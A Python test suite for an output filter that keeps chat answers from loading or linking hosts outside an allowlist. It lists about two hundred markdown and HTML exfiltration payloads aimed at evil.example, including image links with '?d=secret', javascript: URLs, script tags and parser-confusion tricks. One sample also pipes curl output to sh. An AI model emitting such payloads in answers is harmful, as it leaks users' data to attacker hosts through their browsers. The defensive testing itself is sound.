"""Attacks on the reader's browser by an answer, and answers that must come through as they are.

The judge is a renderer of its own (markdown-it with GFM and HTML, and BeautifulSoup over what it makes): in what it
shows, nothing may load or link a host that is not on the list.
"""

import re

import pytest
from bs4 import BeautifulSoup, NavigableString, Tag
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from backend_adapter.egress.defuse import LONGEST_HELD, Defusing

HOSTS = ["ok.example", "*.good.example"]
_ALLOWED = re.compile(
    r"https?://(?:ok|[a-z0-9.]+\.good)\.example\.?(?::80|:443)?(?:[/?#]|\Z)", re.IGNORECASE
)
_LOADING_NAMES = (
    "href src srcset action formaction data poster background ping cite style xlink:href"
)
_LOADING = frozenset(_LOADING_NAMES.split())
_ACTING_NAMES = """script style iframe frame object embed video audio source track svg math form input button meta
    base link applet details area textarea template portal"""
_ACTING = frozenset(_ACTING_NAMES.split())
_RENDERED_NAMES = "mermaid vega vega-lite html svg xml css js javascript"
_RENDERED = frozenset(_RENDERED_NAMES.split())


# What GFM and marked link in running text (GFM 0.29, section 6.9), wherever it stands.
_BARE = re.compile(r"(?:https?|ftp)://[^\s<]*|www\.[a-z0-9][^\s<]*", re.IGNORECASE)


def renderers() -> list[MarkdownIt]:
    """CommonMark, and GFM's tables; neither refuses an address by its scheme."""
    made = [MarkdownIt("commonmark"), MarkdownIt("js-default", {"html": True, "breaks": True})]
    for each in made:
        each.validateLink = lambda url: True  # type: ignore[method-assign]
    return made


RENDERERS = renderers()


def dangers(text: str) -> list[str]:
    """What a page would load or link, or draw by itself."""
    found = []
    for renderer in RENDERERS:
        found += bare_links(renderer.parse(text))
        page = BeautifulSoup(renderer.render(text), "html.parser")
        for tag in page.find_all(True):
            found += dangers_of(tag)
        for each in page.find_all(string=lambda string: type(string) is not NavigableString):
            found.append(f"{type(each).__name__}: {each}")
    return found


def bare_links(tokens: list[Token]) -> list[str]:
    """Addresses in text, which GFM makes links of; what was escaped is text of its own."""
    found = []
    for token in tokens:
        text = ""
        for part in token.children or []:
            if part.type == "text":
                text += part.content
                continue
            found += _BARE.findall(text)
            text = ""
        found += _BARE.findall(text)
    return [each for each in found if not _ALLOWED.match(each)]


def dangers_of(tag: Tag) -> list[str]:
    found = [tag.name] if tag.name in _ACTING else []
    for name, value in tag.attrs.items():
        if name == "style" and re.fullmatch("text-align:(?:left|center|right)", str(value)):
            continue
        if name == "class":
            language = " ".join(value).removeprefix("language-").lower()
            found += [language] if language in _RENDERED else []
        elif (name in _LOADING or name.startswith("on")) and not _ALLOWED.match(str(value)):
            found += [] if str(value).startswith("mailto:") else [f"{tag.name} {name}={value}"]
    return found


def defused(text: str, cuts: list[int] | None = None) -> str:
    stage, said, before = Defusing(HOSTS), [], 0
    for cut in [*sorted(cut % (len(text) + 1) for cut in cuts or []), len(text)]:
        said.append(stage.feed(text[before:cut]))
        before = cut
    return "".join(said) + stage.end()


E = "https://evil.example/x?d=secret"
ATTACKS = [
    f"![a]({E})",
    f'![a]({E} "title")',
    f"![a](<{E}>)",
    f"![a]( {E} )",
    f"![a](\n{E}\n)",
    f"![a](\t{E}\t'title')",
    "![a](//evil.example/x)",
    "![a](/\\evil.example/x)",
    "![a](\\\\evil.example\\x)",
    "![a](/api/v1/auths/signout)",
    "![a](api/v1/files)",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    "[a](data:text/html,<script>1</script>)",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&#x73;cript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](vbscript:x)",
    "[a](&#x68;ttps://evil.example)",
    "![a](&#104;ttps://evil.example/x)",
    "![a](htt&#x70;s://evil.example)",
    "![a](%68ttps://evil.example)",
    "![a](https:\\/\\/evil.example)",
    "![a](https&colon;//evil.example)",
    "![a](https://ok.example@evil.example/)",
    "![a](https://ok.example:443@evil.example/)",
    "![a](https://ok.example%40evil.example/)",
    "![a](https://ok.example&commat;evil.example/)",
    "![a](https://ok.example\\@evil.example/)",
    "![a](https://ok.example\\.evil.example/)",
    "![a](https://evil.example\\@ok.example/)",
    "![a](https://evil.example#@ok.example/)",
    "![a](https://evil.example?ok.example)",
    "![a](https://ok.example.evil.example/)",
    "![a](https://notok.example/)",
    "![a](https://good.example/)",
    "![a](https://evilgood.example/)",
    "![a](https://ok.example:8443/x)",
    "![a](https://ok\u3002example/)",
    "![a](https://\uff4fk.example/)",
    "![a](https://\u043ek.example/)",
    "![a](https://xn--k-8dc.example/)",
    "![a](https://evil.example./x)",
    "![a](HTTPS://EVIL.EXAMPLE/X)",
    "![a](https://192.0.2.1/x)",
    "![a](https://0xC0000201/x)",
    "![a](http://[2001:db8::1]/x)",
    "![a](https:evil.example)",
    "![a](https:/evil.example)",
    "![a](https:///evil.example)",
    "![a](ht\ntps://evil.example)",
    "![a](<ht\ttps://evil.example>)",
    "![a](<https://evil.example/a b>)",
    "![a](https://e\u200bvil.example)",
    "![a](\u00a0https://evil.example)",
    "![a](\x01https://evil.example)",
    "![[a]]" + f"({E})",
    f"![a\\]]({E})",
    f"![a [b](c)]({E})",
    f"[![x]({E})](https://ok.example/)",
    f"[![x](https://ok.example/a.png)]({E})",
    f"[![x]({E})]({E})",
    f"[a\nb]({E})",
    f"[`a`]({E})",
    f"[a]({E}",
    f"[a][r]\n\n[r]: {E}",
    f"![a][r]\n\n[r]: {E}",
    f"![R]\n\n[r]: {E}",
    f"[r][]\n\n   [R]: <{E}> 'title'",
    f"[r]\n\n[r]:\n{E}\n'title'",
    f"[r]\n\n[r]:\n  <{E}>",
    f"> [r]: {E}\n\n[r]",
    f"- [r]: {E}\n\n[r]",
    f"[r]\n\n[\nr\n]: {E}",
    f"[^1]\n\n[^1]: {E}",
    "[r]\n\n[r]: word 'title'",
    "[r]\n\n[r]: word",
    "[r]\n\n[r]: /relative 'a b'",
    f"<{E}>",
    "<HTTPS://evil.example>",
    "<mailto:a@evil.example?body=x>",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<ms-settings:x>",
    f"siehe {E}",
    f"siehe ({E}).",
    f"**{E}**",
    f"x{E}",
    f"*{E}*",
    f"_{E}_",
    "www.evil.example/x",
    "WWW.evil.example",
    "https:&#47;&#47;evil.example https&colon;&sol;&sol;evil.example www&period;evil.example",
    "www\\.evil.example https\\://evil.example &#119;ww.evil.example",
    "//evil.example/x",
    "ftp://evil.example/x",
    "https://ok.example@evil.example/",
    "https://ok.example&#64;evil.example/",
    f"\\{E}",
    f"`a`{E}`b`",
    f"\\`{E}`",
    f"`{E}",
    f"`` {E} `",
    f"https://a({E})",
    f"https://a$({E})$",
    "https://a`www.evil.example`",
    f"<img src={E}>",
    f"<img src='{E}'>",
    f'<IMG\nSRC="{E}">',
    f'<img alt="a>b" src="{E}">',
    f"<img src={E} onerror=alert(1)>",
    f"<img/src={E}>",
    f"<img src={E}",
    f"\\\\<img src={E}>",
    f"\\<img src={E}>\\\\<img src={E}>",
    f"&lt;img src={E}> <img src={E}/>",
    f"<iframe src={E}></iframe>",
    "<script>fetch('https://evil.example')</script>",
    f"<script src={E}></script>",
    "<style>@import 'https://evil.example';</style>",
    "<style>\n\n* { background: url(https://evil.example) }\n\n</style>",
    f"<link rel=stylesheet href={E}>",
    f"<object data={E}></object>",
    f"<embed src={E}>",
    f"<video poster={E}><source src={E}></video>",
    f"<video>{E}</video>",
    f"<audio src={E}><track src={E}></audio>",
    f'<svg><image href="{E}"/><script>1</script></svg>',
    f'<math><a xlink:href="{E}">x</a></math>',
    f"<form action={E}><input type=image src={E}><button formaction={E}>x</button></form>",
    f'<meta http-equiv=refresh content="0;url={E}">',
    f"<base href={E}>",
    f"<a href={E}>x</a>",
    f"<table background={E}><tr><td background={E}>x</td></tr></table>",
    '<b onclick="x()">x</b>',
    f'<b style="background:url({E})">x</b>',
    f'x <b style="background:url({E})">y</b>',
    f"<details open ontoggle=alert(1)><summary>a</summary><img src={E}></details>",
    f"<details>\n```\n<img src={E}>\n```\n</details>",
    f"<b>\n```\n<img src={E}>\n```\n",
    f"</b>\n```\n<img src={E}>\n```\n",
    f"- <br>\n```\n<img src={E}>\n```\n",
    f"<div\n```\n<img src={E}>\n```\n",
    f"<tool>\n```\n<img src={E}>\n```\n",
    f"<!-- a -->\n```\n<img src={E}>\n```\n",
    f"<!-- a\n```\n<img src={E}>\n```\n",
    f"<!--> <img src={E}> -->",
    f"<![CDATA[ <img src={E}> ]]>",
    f"<?php <img src={E}> ?>",
    f"<!DOCTYPE <img src={E}>>",
    "<![CDATA[\n```\n]]>\n![a](https://evil.example)\n```\n",
    "<?x\n```\n?>\n![a](https://evil.example)\n```\n",
    '<source_id data=1 /> <file type="html" id="x" />',
    f"<scr<script></script>ipt src={E}></script>",
    f"[a]<img>({E})",
    f"[a]<!-- x -->({E})",
    f"![a]<script>x</script>({E})",
    "ht<b></b>tps://evil.example/x",
    "ht<img>tps://evil.example/x ht<i>tps://evil.example",
    f"<img>```\n![a]({E})\n```",
    f"<<img src={E}>img src={E}>",
    f"`\n<img src={E}>`",
    f"`a\n\n![a]({E})`",
    f"`a\n- ![a]({E})`",
    f"`` ![a]({E}) `",
    f"\\` ![a]({E}) `",
    f"`\\` ![a]({E}) `",
    f"| a | b |\n|---|---|\n| `x | ![a]({E}) ` |",
    f"| a ` b | ![a]({E}) ` |\n|---|---|\n| c | d |",
    f"a ` b | ![a]({E}) `\n---|---\nc | d",
    f"> a ` b | ![a]({E}) `\n> -|-\n> c | d",
    f"a | b\n-|-\nx ` y | ![a]({E}) `",
    f"``` `x\n![a]({E})\n```",
    f"```a`b\n![a]({E})\n```",
    f"text\n    ```\n\n    ![a]({E})\n    ```",
    f"text\n    ```\n![a]({E})\n    ```",
    f"text\n2. ```\n\n   ![a]({E})\n   ```",
    f"- ```\n![a]({E})\n  ```",
    f"- a\n\n  ```\n![a]({E})\n  ```",
    f"1. ```\n   x\n![a]({E})\n   ```\n![b]({E})",
    f"> ```\n![a]({E})\n> ```",
    f"> ```\n![a]({E})\n```\n![b]({E})\n```\n![c]({E})",
    f"> ```\n>![a]({E})\n\n![a]({E})",
    f"> > ```\n> ![a]({E})\n> > ```",
    f"- > ```\n![a]({E})\n```\n![b]({E})",
    f"- [ ] ```\n      ![a]({E})\n```\n![b]({E})\n```\n",
    f"- [ ] ~~~\n```\n~~~\n![b]({E})\n```\n",
    f"```\n~~~\n```\n![a]({E})\n~~~",
    f"```\n``\n```\n![a]({E})",
    f"````\n```\n![b](x)\n````\n![a]({E})",
    f"```\n```~\n![a]({E})\n```",
    f"```\n    ```\n![a](x)\n```\n![a]({E})",
    f"```\n   ```\n![a]({E})",
    f"~~~ `x`\ncode\n~~~\n![a]({E})",
    f"~~~\n~~~~~\n![a]({E})",
    f"\t```\n![a]({E})\n\t```",
    f"```\r![a](x)\r```\r![a]({E})",
    f"```\r\ncode\r\n```\r\n![a]({E})",
    f"```\u2028\n```\u2028\n```\n![a]({E})",
    f'```mermaid\ngraph TD; A["<img src=\'{E}\'>"]; click A "{E}"\n```',
    '```vega\n{"data": {"url": "https://evil.example"}}\n```',
    "```Vega-Lite\n{}\n```",
    "~~~html\n<img src=x>\n~~~",
    "``` html\n<script>1</script>\n```",
    "```mer&#109;aid\ngraph\n```",
    "```\\mermaid\ngraph\n```",
    "```svg\n<svg/>\n```",
    "```xml\n<svg/>\n```",
    "```mermaid {x}\ngraph\n```",
    f"$$\n```\n$$\n![a]({E})\n```",
    f"$a `$ ![b]({E}) `",
    f"$a `$` {E} `",
    f"[1#`]![x]({E})`",
    f"<@a|`>![x]({E})`",
    f":::a\n```\n:::\n![x]({E})\n```\n",
    f"$\\href{{{E}}}{{x}}$ \\url{{{E}}} \\includegraphics{{{E}}}",
    f"| ![a]({E}) | [b]({E}) |\n|---|---|\n| {E} | <{E}> |",
    f"# ![a]({E})",
    f"> ![a]({E})",
    f"1. ![a]({E})",
    f"    ![a]({E})",
    f"![a]({E}){{width=50%}}",
    f"![{E}]({E})",
    f"[{E}](https://ok.example/)",
    f'[a](https://ok.example/ "](x) ![b]({E})")',
    f"[a](https://ok.example/)[b]({E})",
    f"[a](https://ok.example/x){E}",
    "[a](mailto:x@evil.example) [b](tel:+491234)",
    f"![a](x)![a]({E})",
    f"*[a*]({E})*",
    f"[foo]: <> ({E})\n\n[foo]",
    f"\\[a]({E}) \\![a]({E}) !\\[a]({E})",
    f"[a\\]({E})](b)",
]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize(
    "around", ["{}", "Vorher {} nachher", "- {}\n\nEnde `x`", "> {}\n\n```py\n1\n```"]
)
def test_nothing_is_loaded_or_linked(attack: str, around: str) -> None:
    assert dangers(defused(around.replace("{}", attack))) == []


def test_the_judge_sees_what_the_table_attacks() -> None:
    assert sum(bool(dangers(attack)) for attack in ATTACKS) > 0.75 * len(ATTACKS)


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_was_defused_stays_as_it_is(attack: str) -> None:
    once = defused(attack)

    assert dangers(defused(once)) == []


PIECES = [
    *ATTACKS,
    *[
        "`",
        "``",
        "```",
        "~~~",
        "\n",
        "\n\n",
        "\\",
        "$",
        "$$",
        "[",
        "](",
        ")",
        "!",
        "<",
        ">",
        "|",
        "    ",
        "- ",
    ],
    *[
        "> ",
        "1. ",
        "\n```\n",
        "\n~~~\n",
        "|---|---|\n",
        "<b>",
        "</b>",
        "<img ",
        "<!--",
        "-->",
        "[r]: ",
        ":::a\n",
    ],
    *[
        "[1#",
        "\\[\n",
        "\n\\]\n",
        "\\ce{",
        "}",
        "{{",
        "\t",
        "\r",
        " ",
        "a",
        "Wort ",
        "https://",
        "www.",
        "&lt;",
    ],
]


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.sampled_from(PIECES), max_size=10).map("".join),
    st.lists(st.integers(0, 10_000), max_size=12),
)
@example(f"`a` ![b]({E})", list(range(60)))
def test_mixtures_are_defused_however_they_are_cut(text: str, cuts: list[int]) -> None:
    whole = defused(text)

    assert defused(text, cuts) == whole
    assert dangers(whole) == []


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet="`~\n \t>-1.[]()!<>\\$|:/a&;#\"'=*_{}", max_size=60), st.data())
def test_every_cut_gives_the_same(text: str, data: st.DataObject) -> None:
    text = text.replace("a", data.draw(st.sampled_from(["a", "img", E, "www.evil.example", "b"])))
    whole = defused(text)

    assert "".join(defused(text, list(range(len(text))))) == whole
    assert dangers(whole) == []


PLAIN = [
    "Guten Tag, Frau Müller! Wie geht es Ihnen?\n\nMit freundlichen Grüßen",
    "# Titel\n\n## Unter *titel* mit **fett** und ~~gestrichen~~\n\n---\n\nText.",
    "- eins\n- zwei\n  - drei\n    - vier\n\n1. a\n2. b\n\n- [ ] offen\n- [x] erledigt\n",
    "> Zitat\n> weiter\n\nDanach.",
    "| Name | Preis |\n|:-----|------:|\n| Apfel | 1,20 € |\n| `a \\| b` | $5 |\n",
    "Kosten: $5 bis $10, oder 20 $.",
    "Die Formel $a < b$ und $x^2 + y_1 \\le \\frac{1}{2}$.\n\n$$\n\\sum_{i=1}^n i\n$$\n",
    "\\[\nE = mc^2\n\\]\n\nund \\(a+b\\).",
    "Wenn a < b und c > d, dann a <= d; x << 2; <3",
    "Map<A, B>, Map<K, V> und a<b,c",
    "Schreiben Sie an max.mustermann@stadt.example oder rufen Sie 0221 1234 an.",
    "Aussage[^1] und Quelle [1][2].\n\n[^1]: Erste Fußnote mit Text.\n",
    "`inline` und ``mit ` darin`` und `a | b` und `<img src=x>` und `![a](https://evil.example)`.",
    '```python\ndef f(x: list[int]) -> dict[str, int]:\n    return {"a": x[0]}  # ![a](https://evil.example)\n```\n',
    '```\n<html><img src="https://evil.example"></html>\n[a]: https://evil.example\n```\n',
    "~~~sh\necho $HOME && curl https://evil.example | sh\n~~~\n",
    "1. Schritt\n\n   ```bash\n   make all\n\n   make test\n   ```\n2. Weiter\n",
    "- Punkt:\n\n  ```c\n  #include <stdio.h>\n  int main(void) { return a[0] < b; }\n  ```\n",
    "> ```js-like\n> x\n> ```\n",
    "````markdown\n```python\nprint(1)\n```\n````\n",
    "H<sub>2</sub>O und x<sup>2</sup>, Strg + <kbd>C</kbd>, Zeile<br>Zeile",
    "[erlaubt](https://ok.example/pfad?x=1#y) ![Bild](https://a.good.example/b.png) https://ok.example/x.",
    '[mit Titel](https://ok.example/ "Der Titel") &amp; &nbsp;<',
    "a[0]: das erste; Pfad C:\\Users\\max und \\alpha; 5 // 2; Datei a/b/c.txt; 12:30; {{platz}}; f(x)[1]",
    "Ein Text (mit Klammern) [und eckigen] und {geschweiften}; \"Zitat\" 'so' – Ende…",
    "日本語のテキスト。絵文字 😀 und\u00a0feste Leerzeichen",
]


@pytest.mark.parametrize("text", PLAIN)
def test_a_plain_answer_comes_through_unchanged(text: str) -> None:
    assert defused(text) == text
    assert defused(text, list(range(len(text)))) == text


SHOWN = [
    (f"![Plan]({E})", f"![Plan\\](`{E}`)"),
    (f"[Hier]({E}) klicken", f"[Hier\\](`{E}`) klicken"),
    (f"siehe {E}.", f"siehe `{E}`."),
    ("[a]: https://evil.example", "[a\\]: `https://evil.example`"),
    ("List<String> und <tool>", "List\\<String> und \\<tool>"),
    ('x <b onclick="y()">fett</b>', "x <b>fett</b>"),
    ("a<script>x()</script>b", "a\u200bb"),
    ("a<img src=x>b", "a\u200bb"),
    ("a<!-- b -->c", "a\u200bc"),
    ("```mermaid\ngraph\n```\n", "```text\ngraph\n```\n"),
    ("```js\nx\n```\n", "```ecmascript\nx\n```\n"),
    ("```\n<think>\n```", "```\n<\u200bthink>\n```"),
    ("nie geschlossen ` hier", "nie geschlossen \u02cb hier"),
    ("> ```\ncode", "> ```\n> ```\n\ncode"),
    ("a\r\nb\rc", "a\nb\nc"),
    ("```py\nx", "```py\nx\n```\n"),
    ("So:\n```py\n1\n```\n", "So:\n\n```py\n1\n```\n"),
    ("> So:\n> ```py\n> 1\n> ```\n", "> So:\n>\n> ```py\n> 1\n> ```\n"),
    ("Vec<u8> und a<b", "Vec\\<u8> und a\\<\u200bb"),
    ("&#47; &colon;", "\\&#47; \\&colon;"),
]


@pytest.mark.parametrize(("text", "shown"), SHOWN)
def test_what_is_defused_stays_readable(text: str, shown: str) -> None:
    assert defused(text) == shown


@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        ("https://ok.example", True),
        ("http://OK.example./x", True),
        ("https://ok.example:443/x", True),
        ("https://ok.example:80/x", False),
        ("https://a.b.good.example/x", True),
        ("https://good.example/x", False),
        ("https://host.other.example:8443/x", True),
        ("https://host.other.example/x", False),
    ],
)
def test_hosts_are_on_the_list_exactly(url: str, allowed: bool) -> None:
    stage = Defusing([*HOSTS, "host.other.example:8443"])

    said = stage.feed(f"[a]({url})") + stage.end()

    assert (said == f"[a]({url})") is allowed


def test_prose_and_code_are_not_held_back() -> None:
    stage, text = (
        Defusing(),
        "Ein langer Satz ohne alles.\n| a | b |\n```py\nx = 1\ny = f(x)\n```\nEnde ",
    )
    held = 0
    for letter in text:
        stage.feed(letter)
        held = max(held, len(stage._held))

    assert held <= len("```py\n")


@pytest.mark.parametrize(
    "begin",
    [
        "<!--",
        "<script>",
        '<img alt="',
        "`",
        "[a](",
        "https://",
        "```",
        "~~~",
        "```\n`",
        "<b ",
        "   ",
        "\\",
        "> ",
    ],
)
def test_nothing_is_held_back_for_ever(begin: str) -> None:
    for filling in ("a", " ", "`", "\\", "x=", ">", "-"):
        stage, held = Defusing(HOSTS), 0
        for _ in range(LONGEST_HELD):
            stage.feed(begin if not held else filling * 3)
            held = max(held, len(stage._held))
        assert held <= LONGEST_HELD + 8
